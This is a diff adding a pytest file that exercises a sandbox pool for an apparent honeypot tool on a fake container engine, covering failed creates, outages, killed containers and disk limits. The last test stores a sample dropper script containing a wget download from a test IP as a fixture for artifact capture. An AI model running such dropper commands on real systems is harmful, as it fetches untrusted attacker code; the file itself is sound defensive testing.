@@ -1,0 +1,152 @@
+"""The pool battery (tests/pool_battery.py) on the fake engine, plus what only the fake can stage:
+failing and slow creates, an outage noticed only by a release, a container killed under its
+session. Each test takes milliseconds; none of this is evidence that the real engine behaves."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from pathlib import Path
+
+import pytest
+
+from sandtrap.errors import EngineUnavailable, PoolExhausted
+from sandtrap.sandbox.fake import FakeEngine
+from sandtrap.sandbox.hardening import LABEL_LOG_HOSTNAME
+from tests.pool_battery import (  # noqa: F401 - the battery's tests, collected here
+    Backend,
+    Sink,
+    peer,
+    sh,
+    test_max_sandboxes_and_allocation_timeout,
+    test_outage_members_are_rechecked_and_refill_resumes,
+    test_release_stops_and_keeps_the_sandbox,
+    test_restart_reconciles_and_retention_prunes,
+    test_sticky_sources_share_and_get_their_sandbox_back,
+    test_warms_up_to_its_size_and_refills_behind_an_allocation,
+)
+
+IMAGE = "sandtrap/fake-target:1"
+
+
+@pytest.fixture
+def engine() -> FakeEngine:
+    return FakeEngine(image_labels={IMAGE: {LABEL_LOG_HOSTNAME: "build-host"}})
+
+
+@pytest.fixture
+def backend(engine: FakeEngine, tmp_path: Path) -> Backend:
+    @asynccontextmanager
+    async def outage() -> AsyncIterator[None]:
+        engine.outage()
+        try:
+            yield
+        finally:
+            engine.restore()
+
+    return Backend(
+        engine=engine,
+        sensor="test-fake",
+        image=IMAGE,
+        tmp_path=tmp_path,
+        patience=2.0,
+        allocate_timeout=0.2,
+        health_interval=0.02,
+        retry_delays=(0.01, 0.05),
+        outage=outage,
+    )
+
+
+async def test_failing_creates_become_one_event_and_the_pool_recovers(
+    backend: Backend, engine: FakeEngine
+) -> None:
+    engine.create_error = EngineUnavailable("create: engine unreachable: fake")
+    sink = Sink()
+    async with backend.pool(backend.config(), sink) as pool:
+        async with asyncio.timeout(backend.patience):
+            (failure,) = await sink.wait_for("sandbox.error")
+        assert failure.operation == "create"
+        with pytest.raises(PoolExhausted):
+            await pool.allocate(peer(1))
+        # Retries with the same message are counted, not reported again.
+        assert len(sink.of("sandbox.error")) == 1
+        assert pool.statistics().errors_total > 1
+        assert not pool.statistics().engine_ok
+        engine.create_error = None
+        await backend.warm(pool)
+        assert pool.statistics().idle == 2
+        assert not engine.containers_by_id.keys() - await backend.pool_members()
+
+
+async def test_slow_creates_time_the_allocation_out(backend: Backend, engine: FakeEngine) -> None:
+    engine.create_delay = 10
+    async with backend.pool(backend.config(pool={"size": 1}), Sink()) as pool:
+        with pytest.raises(PoolExhausted):
+            await pool.allocate(peer(1))
+        assert pool.statistics().creating == 1
+
+
+async def test_members_from_before_an_outage_are_checked_before_use(
+    backend: Backend, engine: FakeEngine
+) -> None:
+    """No health check runs here: only the release's failed stop tells the pool of the outage."""
+    sink = Sink()
+    config = backend.config(pool={"size": 1, "health_interval_seconds": 3600})
+    async with backend.pool(config, sink) as pool:
+        first = await pool.allocate(peer(1))
+        await backend.warm(pool)
+        (before,) = await backend.pool_members()
+        engine.outage()
+        await pool.release(first, peer(1))
+        # Reported once each; the diff and the retention pass after the stop fail the same way.
+        assert [e.operation for e in sink.of("sandbox.error")] == ["stop", "diff", "prune"]
+        engine.restore()
+        sandbox = await pool.allocate(peer(2))
+        assert sandbox.id != before
+        assert before not in engine.containers_by_id  # found dead on the check, removed
+        assert await sh(sandbox, "echo alive") == (0, "alive\n")
+
+
+async def test_a_container_killed_in_use_ends_its_execs(
+    backend: Backend, engine: FakeEngine
+) -> None:
+    sink = Sink()
+    config = backend.config(pool={"size": 1}, sandbox={"disk_check_interval_seconds": 0.01})
+    async with backend.pool(config, sink) as pool:
+        sandbox = await pool.allocate(peer(1))
+        stream = await sandbox.exec(["/bin/bash"], user="root", tty=True)
+        # As under gVisor: the container is gone but its exec hangs until the watcher ends it.
+        engine.kill(sandbox.id, oom_killed=True, end_execs=False)
+        async with asyncio.timeout(backend.patience):
+            (died,) = await sink.wait_for("sandbox.died")
+            while (await stream.read()) is not None:
+                pass
+        assert (died.container_id, died.exit_code, died.oom_killed) == (sandbox.id, 137, True)
+        assert await stream.wait() == 255
+        await stream.close()
+        await pool.release(sandbox, peer(1))
+
+
+async def test_a_sandbox_over_its_disk_budget_is_stopped(
+    backend: Backend, engine: FakeEngine
+) -> None:
+    sink = Sink()
+    config = backend.config(
+        pool={"size": 1}, sandbox={"disk_limit_mb": 16, "disk_check_interval_seconds": 0.01}
+    )
+    payload = b"#!/bin/sh\nwget http://203.0.113.1/x\n"
+    async with backend.pool(config, sink) as pool:
+        sandbox = await pool.allocate(peer(9))
+        engine.write_file(sandbox.id, "/tmp/dropper.sh", payload)
+        engine.container(sandbox.id).size_rw += 17 * 1024 * 1024
+        async with asyncio.timeout(backend.patience):
+            (exceeded,) = await sink.wait_for("sandbox.disk_exceeded")
+            while engine.container(sandbox.id).running:  # the watcher stops it right after
+                await asyncio.sleep(0)
+        assert (exceeded.limit_mb, exceeded.size_mb) == (16, 17.0)
+        await pool.release(sandbox, peer(9))
+        (diff,) = sink.of("sandbox.diff")
+        assert diff.changes == [{"path": "/tmp/dropper.sh", "kind": "added"}]
+        (artifact,) = sink.of("sandbox.artifact")
+        assert Path(artifact.artifact).read_bytes() == payload
